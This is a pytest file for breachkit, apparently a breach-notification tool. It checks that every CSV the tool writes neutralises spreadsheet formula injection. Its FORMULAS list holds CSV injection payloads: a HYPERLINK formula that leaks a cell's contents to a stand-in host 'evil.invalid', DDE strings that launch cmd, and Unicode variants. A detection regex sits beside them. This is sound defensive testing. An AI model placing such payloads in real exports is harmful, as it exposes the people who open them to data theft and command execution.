"""What a spreadsheet would run when somebody opens a table of ours: in every table breachkit writes, and in those to come."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

import breachkit
from tests.cli.conftest import Run
from tests.security.conftest import Facts, quoted
from tests.workflow.made_up_people import person, write_table

FORMULAS = (
    '=HYPERLINK("https://evil.invalid/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "=1+1\n=1+1",
    "%0A=1+1", "\u2028=1+1",
)  # fmt: skip
RUNS = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")
"""What programs have been seen to take for the beginning of a formula."""
SMALL = Path(__file__).parents[1] / "exercises" / "small.yaml"


def cells(text: str) -> Iterator[str]:
    """Every cell of a table as a spreadsheet reads it."""
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True):
        yield from row


def check(text: str) -> None:
    """Nothing in the table runs."""
    found = list(cells(text))
    assert found
    assert [cell for cell in found if RUNS.match(cell)] == []


@pytest.mark.parametrize("first", range(0, len(FORMULAS), 4))
def test_a_worksheet_and_a_register_hold_no_formula(run: Run, facts: Facts, first: int) -> None:
    one, two, three, four = FORMULAS[first : first + 4]
    path = facts(incident__title=one, incident__summary=two, consequences=three, measures__taken=four, breach__systems=one)
    check(run("notice", "worksheet", "eu.gdpr.33@es-aepd", "--facts", path, "--format", "csv").out)
    run("incident", "open", "--facts", path)
    run("file", "INC-1", "eu.gdpr.33@es-aepd", "--reference", two)
    run("decide", "INC-1", "eu.gdpr.34", "refrain", "--ground", three)
    check(run("report", "--register", "--format", "csv").out)


def test_the_lists_of_a_batch_hold_no_formula(run: Run, facts: Facts, tmp_path: Path) -> None:
    people = [person(number * 3, id=attack) for number, attack in enumerate(FORMULAS)]
    people += [person(number * 3, id=f"-{number}", email=f"p{number}@example.com") for number in range(50, 54)]
    people += [person(number * 3, id=f"@{number}", country="Narnia") for number in range(60, 64)]
    people += [person(number * 3, id=str(number), name=f"=N{number}") for number in range(70, 74)]
    people += [person(number * 3, id=f"+{number}", email=f"p{number}@example.com") for number in range(50, 54)]
    table, out = write_table(tmp_path / "people.csv", people), tmp_path / "out"
    run("notice", "batch", "eu.gdpr.34", "--facts", facts(), "--people", table, "--out", out, "--format", "pdf-print")
    names = ("manifest.csv", "refused.csv", "duplicates.csv", "print-index.csv")
    assert {path.name for path in out.rglob("*.csv") if ".parts" not in path.parts} == set(names)
    for name in names:
        text = (out / name).read_bytes().decode()
        assert text.count("\n") > 3, name
        check(text)


@pytest.mark.parametrize("first", range(0, len(FORMULAS), 4))
def test_an_events_list_holds_no_formula_and_gives_every_word_back(run: Run, tmp_path: Path, first: int) -> None:
    scenario, text = tmp_path / "small.yaml", SMALL.read_text(encoding="utf-8")
    for said, attack in zip(
        ("Your folder stands open.", "A user", "No comment.", "Counsel"), FORMULAS[first : first + 4], strict=True
    ):
        text = text.replace(f" {said}", f" {quoted(attack)}")
    scenario.write_text(text, encoding="utf-8")
    table = run("exercise", "export", scenario).out
    check(table)
    (tmp_path / "events.csv").write_text(table, encoding="utf-8", newline="")
    run("exercise", "import", scenario, tmp_path / "events.csv", "--out", tmp_path / "again.yaml")
    assert run("exercise", "export", tmp_path / "again.yaml").out == table


def test_every_module_that_writes_a_table_guards_its_cells() -> None:
    room = Path(breachkit.__file__).parent
    writers = {path: path.read_text(encoding="utf-8") for path in room.rglob("*.py")}
    found = {
        path.relative_to(room).as_posix(): text for path, text in writers.items() if re.search(r"csv\.(?:Dict)?[Ww]riter", text)
    }
    assert len(found) >= 5
    assert [name for name, text in found.items() if "from breachkit.domain.spreadsheet import" not in text] == []
